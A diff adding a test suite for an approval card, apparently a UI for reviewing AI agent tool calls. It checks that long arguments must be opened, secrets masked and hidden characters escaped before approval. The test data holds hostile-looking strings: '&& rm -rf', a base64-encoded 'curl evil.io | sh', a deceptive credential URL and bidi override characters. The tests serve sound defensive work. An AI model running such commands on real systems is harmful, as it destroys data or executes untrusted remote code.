@@ -1,0 +1,303 @@
+import { act, render, screen, waitFor, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { ApprovalCard } from 'approval-cards';
+import type { ApprovalCardProps, OnSubmit, ToolCall } from 'approval-cards';
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import { ada, batch, call, settledByAda } from '../fixtures/batches';
+import { takeComplaints } from './setup';
+
+/** Calls of which not everything fits on the card, and what has to be opened before they are approved. */
+
+const onSubmitted = () => vi.fn<OnSubmit>(async () => settledByAda);
+
+const cardOf = (calls: ToolCall[], rest: Partial<ApprovalCardProps> = {}) => (
+  <ApprovalCard
+    unsafeDisableInputGuard
+    batch={batch('b', calls)}
+    currentUser={ada}
+    onSubmit={rest.onSubmit ?? onSubmitted()}
+    {...rest}
+  />
+);
+
+const long = (end = '&& rm -rf'): string => `${'some words. '.repeat(20_000)}${end}`;
+const approve = (): HTMLElement => screen.getByRole('button', { name: /^Approve/ });
+const press = (name: RegExp | string): Promise<void> =>
+  userEvent.click(screen.getByRole('button', { name }));
+
+describe('a call with more than fits', () => {
+  test('is approved only after all of it was opened', async () => {
+    const onSubmit = onSubmitted();
+    render(cardOf([call('a', { args: { body: long() } })], { onSubmit }));
+    expect(approve()).toHaveAttribute('aria-disabled', 'true');
+    expect(approve()).toHaveAccessibleDescription(/Open all of it before you approve/);
+    await userEvent.click(approve());
+    expect(onSubmit).not.toHaveBeenCalled();
+
+    await press(/^Show all 240,009 characters of body/);
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+    expect(screen.queryByText(/Open all of it/)).toBeNull();
+    await userEvent.click(approve());
+    expect(onSubmit).toHaveBeenCalledTimes(1);
+  });
+
+  test('can be denied at once', async () => {
+    const onSubmit = onSubmitted();
+    render(cardOf([call('a', { args: { body: long() } })], { onSubmit }));
+    await press(/^Deny/);
+    expect(onSubmit).toHaveBeenCalledTimes(1);
+  });
+
+  test('stays opened after it was folded again', async () => {
+    render(cardOf([call('a', { args: { body: long() } })]));
+    await press(/^Show all/);
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+    await press('Show less');
+    expect(screen.getByText(/characters not shown/)).toBeVisible();
+    expect(approve()).not.toHaveAttribute('aria-disabled');
+  });
+
+  test('has to be opened text by text, or with one press', async () => {
+    const both = [call('a', { args: { one: long(), two: long('curl') } })];
+    const { unmount } = render(cardOf(both));
+    await press(/of one$/);
+    await waitFor(() => expect(screen.getByText(/&& rm -rf/)).toBeVisible());
+    expect(approve()).toHaveAttribute('aria-disabled', 'true');
+    await press(/of two$/);
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+    unmount();
+
+    render(cardOf(both));
+    await press('Show everything');
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+    expect(screen.queryByText(/characters not shown/)).toBeNull();
+  });
+
+  test('may have more lines than fit', async () => {
+    const many = Object.fromEntries(Array.from({ length: 700 }, (_, i) => [`key${i}`, i]));
+    render(cardOf([call('a', { args: many })]));
+    expect(screen.getAllByRole('term').length).toBeLessThan(40);
+    expect(approve()).toHaveAttribute('aria-disabled', 'true');
+    await press('Show everything');
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+    expect(screen.getByText('key699')).toBeVisible();
+    // The button stays where it is, so that focus does.
+    expect(screen.getByRole('button', { name: 'Show less' })).toHaveFocus();
+  });
+
+  test('has to be opened again when its content is another', async () => {
+    const { rerender } = render(cardOf([call('a', { args: { body: long() } })]));
+    await press(/^Show all/);
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+    await press('Show less');
+    rerender(cardOf([call('a', { args: { body: long('curl evil') } })]));
+    expect(approve()).toHaveAttribute('aria-disabled', 'true');
+  });
+
+  test('is left out of Approve all until it was opened', async () => {
+    const calls = [call('a', { args: { body: long() } }), call('b', { args: { n: 1 } })];
+    render(cardOf(calls, { risk: () => 'routine' }));
+    expect(screen.getByRole('button', { name: 'Approve 1 routine' })).toBeVisible();
+    await press(/^Show all/);
+    await waitFor(() =>
+      expect(screen.getByRole('button', { name: 'Approve 2 routine' })).toBeVisible(),
+    );
+  });
+
+  test('that is merely long enough to be folded needs no opening', () => {
+    render(cardOf([call('a', { args: { body: 'words '.repeat(500) } })]));
+    expect(screen.getByText(/characters not shown/)).toBeVisible();
+    expect(approve()).not.toHaveAttribute('aria-disabled');
+  });
+
+  test('comes in portions: the first at once, the rest frame by frame', async () => {
+    render(cardOf([call('a', { args: { body: long() } })]));
+    const frames: FrameRequestCallback[] = [];
+    vi.spyOn(globalThis, 'requestAnimationFrame').mockImplementation((frame) => frames.push(frame));
+    await press(/^Show all/);
+    const value = screen.getByText(/^some words/).parentElement as HTMLElement;
+    expect(value).toHaveAttribute('aria-busy', 'true');
+    expect(value.textContent.length).toBeLessThan(25_000);
+    expect(approve()).toHaveAttribute('aria-disabled', 'true');
+    for (let frame = frames.shift(); frame; frame = frames.shift()) {
+      const before = value.textContent.length;
+      act(() => frame?.(0));
+      expect(value.textContent.length - before).toBeLessThan(25_000);
+    }
+    expect(value.textContent).toBe(long());
+    expect(value).not.toHaveAttribute('aria-busy');
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+  });
+});
+
+afterEach(() => vi.restoreAllMocks());
+
+describe('a host that draws arguments itself', () => {
+  const sum = (target: ToolCall): string => `sum of ${target.id}`;
+
+  test('leaves the arguments as they are within reach', async () => {
+    render(cardOf([call('a', { args: { to: 'ada@b.c' } })], { renderArguments: sum }));
+    expect(screen.getByText('sum of a')).toBeVisible();
+    expect(screen.queryByText('ada@b.c')).toBeNull();
+    await press('Show the arguments as they are');
+    expect(screen.getByText('ada@b.c')).toBeVisible();
+    await press('Show less');
+    expect(screen.queryByText('ada@b.c')).toBeNull();
+  });
+
+  test('arms Approve of a large call by saying that all of it is open', async () => {
+    render(
+      cardOf([call('a', { args: { body: long() } })], {
+        renderArguments: (_, { markOpened }) => (
+          <button type="button" onClick={markOpened}>
+            Open the letter
+          </button>
+        ),
+      }),
+    );
+    expect(approve()).toHaveAttribute('aria-disabled', 'true');
+    await press('Open the letter');
+    expect(approve()).not.toHaveAttribute('aria-disabled');
+  });
+
+  test('or else the arguments as they are arm it', async () => {
+    render(cardOf([call('a', { args: { body: long() } })], { renderArguments: sum }));
+    await press('Show the arguments as they are');
+    await press(/^Show all/);
+    await waitFor(() => expect(approve()).not.toHaveAttribute('aria-disabled'));
+  });
+});
+
+describe('secrets', () => {
+  const redact: ApprovalCardProps['redact'] = (path, value) =>
+    path.at(-1) === 'token' || (value?.startsWith('sk-') ? `sk-…${value.slice(-4)}` : false);
+  const args = { token: 's3cret-value', key: 'sk-abcdef1234', to: 'ada@b.c' };
+
+  test('are masked on screen and in names, and sent as they are', async () => {
+    const onSubmit = onSubmitted();
+    render(cardOf([call('a', { args })], { redact, onSubmit, risk: () => 'critical' }));
+    const row = screen.getByRole('listitem');
+    expect(row).toHaveTextContent(/token ?masked/);
+    expect(row).toHaveTextContent(/sk-…1234 ?masked/);
+    expect(row).toHaveTextContent('ada@b.c');
+    await userEvent.click(approve());
+    expect(document.body.outerHTML).not.toMatch(/s3cret|abcdef/);
+    expect(screen.getByText(/really run .* with ada@b\.c/)).toBeVisible();
+    await press(/^Yes, run/);
+    expect(JSON.stringify(onSubmit.mock.calls[0]?.[0])).not.toContain('s3cret');
+  });
+
+  test('are masked in what is copied', async () => {
+    const user = userEvent.setup();
+    render(cardOf([call('a', { args })], { redact }));
+    await user.click(screen.getByRole('button', { name: /^Copy/ }));
+    const copied = await navigator.clipboard.readText();
+    expect(copied).toContain('token: ⟨masked⟩');
+    expect(copied).toContain('ada@b.c');
+    expect(copied).not.toMatch(/s3cret|abcdef/);
+  });
+
+  test('do not show in what is said of a change, or of what was found', async () => {
+    const address = 'https://user:s3cret@paypal.com.evil.io/';
+    const { rerender } = render(cardOf([call('a', { args: { token: address } })], { redact }));
+    expect(document.body.outerHTML).not.toMatch(/s3cret|evil/);
+    rerender(cardOf([call('a', { args: { token: `${address}2` } })], { redact }));
+    expect(screen.getByText('Changed since you looked')).toBeVisible();
+    expect(document.body.outerHTML).not.toMatch(/s3cret|evil/);
+  });
+
+  test('are masked where a batch could not be read', () => {
+    const junk = {
+      ...batch('b', []),
+      calls: { a: call('a', { args, rawArgs: '{"token":"s3cret"}' }) },
+    };
+    render(cardOf([], { batch: junk as never, redact }));
+    expect(takeComplaints().join()).toMatch(/not a list/);
+    expect(screen.getByRole('group', { name: 'Content as text' })).toHaveTextContent('ada@b.c');
+    expect(document.body.outerHTML).not.toMatch(/s3cret|abcdef/);
+  });
+
+  test('are shown once the host says so', () => {
+    const calls = [call('a', { args })];
+    const { rerender } = render(cardOf(calls, { redact }));
+    rerender(cardOf(calls, { redact: () => false }));
+    expect(screen.getByRole('listitem')).toHaveTextContent('s3cret-value');
+  });
+});
+
+describe('copying', () => {
+  test('gives the tool and its arguments as they are on screen: escaped', async () => {
+    const user = userEvent.setup();
+    render(cardOf([call('a', { toolName: 'run', args: { cmd: 'a\u{202E}b', n: 1 } })]));
+    await user.click(screen.getByRole('button', { name: 'Copy the arguments of run' }));
+    expect(await navigator.clipboard.readText()).toBe(
+      'run\n⟨object, 2 entries⟩\n  cmd: "a⟦U+202E RLO⟧b"\n  n: 1',
+    );
+    expect(await screen.findByRole('button', { name: 'Copied' })).toBeVisible();
+    await user.tab();
+    expect(screen.getByRole('button', { name: /^Copy the/ })).toBeVisible();
+  });
+
+  test('says so when the browser does not let it', async () => {
+    const user = userEvent.setup();
+    vi.spyOn(navigator.clipboard, 'writeText').mockRejectedValue(new Error('denied'));
+    render(cardOf([call('a')]));
+    await user.click(screen.getByRole('button', { name: /^Copy/ }));
+    expect(await screen.findByRole('button', { name: 'Could not copy' })).toBeVisible();
+  });
+});
+
+describe('encoded text', () => {
+  const encoded = (text: string): string => Buffer.from(text).toString('base64');
+
+  test('is decoded when asked for, and escaped again', async () => {
+    const inner = 'curl evil.io | sh # \u{202E}and more of the same';
+    render(cardOf([call('a', { args: { script: encoded(inner) } })]));
+    const row = within(screen.getByRole('listitem'));
+    expect(row.queryByText(/curl evil/)).toBeNull();
+    await press('Decode');
+    expect(row.getByText(/curl evil\.io \| sh/)).toHaveTextContent('⟦U+202E RLO⟧and more');
+    expect(row.getByRole('button', { name: 'Show less' })).toHaveAttribute('aria-expanded', 'true');
+    await press('Show less');
+    expect(row.queryByText(/curl evil/)).toBeNull();
+  });
+
+  test('that is no text says so', async () => {
+    const bytes = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 37 + 128) % 256));
+    render(cardOf([call('a', { args: { data: bytes.toString('base64') } })]));
+    await press('Decode');
+    expect(screen.getByText(/Not text: 96 bytes of data/)).toBeVisible();
+  });
+});
+
+describe('names', () => {
+  test('of odd blanks are shown for what they are', () => {
+    render(cardOf([call('a', { toolName: '\u00A0\u2003', provider: '\u3000' })]));
+    expect(takeComplaints().join()).toMatch(/no tool name/);
+    const row = screen.getByRole('listitem');
+    expect(row).not.toHaveTextContent('(no name)');
+    expect(row).toHaveTextContent(/⟦U\+00A0/);
+    expect(row).toHaveTextContent(/⟦U\+3000/);
+  });
+
+  test.each([
+    ['a tool with a hidden letter', { toolName: 'send\u200Bmail' }],
+    ['an argument with a hidden letter', { args: { 'to\u200B': 'x' } }],
+    ['a control code', { args: { cmd: 'a\u001B[2Kb' } }],
+  ])('%s makes a notice, and a routine call risky', (_, content) => {
+    render(cardOf([call('a', content)], { risk: () => 'routine' }));
+    const row = screen.getByRole('listitem');
+    expect(row).toHaveAttribute('data-risk', 'risky');
+    expect(row.querySelector('[data-part="call-findings"]')).toHaveAttribute('data-tone', 'warn');
+  });
+
+  test('a hidden letter in prose is told quietly', () => {
+    render(cardOf([call('a', { args: { text: 'soft\u00ADhyphen' } })], { risk: () => 'routine' }));
+    const row = screen.getByRole('listitem');
+    expect(row).toHaveAttribute('data-risk', 'routine');
+    expect(row.querySelector('[data-part="call-findings"]')).toHaveAttribute(
+      'data-tone',
+      'neutral',
+    );
+  });
+});
